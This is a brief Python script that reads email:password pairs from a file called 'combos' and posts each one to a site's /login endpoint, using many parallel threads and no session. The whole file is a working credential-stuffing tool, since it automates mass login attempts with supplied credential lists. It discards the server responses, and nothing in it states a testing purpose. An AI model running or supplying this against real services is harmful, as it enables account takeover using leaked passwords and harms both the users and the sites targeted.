"""Tries the pairs in `combos` by requests, without a session. Arguments: URL, parallel."""

import sys
from concurrent.futures import ThreadPoolExecutor

import requests

url, parallel = sys.argv[1], int(sys.argv[2])


def attempt(line):
    email, password = line.rstrip("\n").split(":", 1)
    try:
        form = {"email": email, "password": password}
        requests.post(url + "/login", data=form, allow_redirects=False, timeout=10)
    except requests.RequestException:
        pass


with ThreadPoolExecutor(parallel) as pool:
    list(pool.map(attempt, open("combos")))
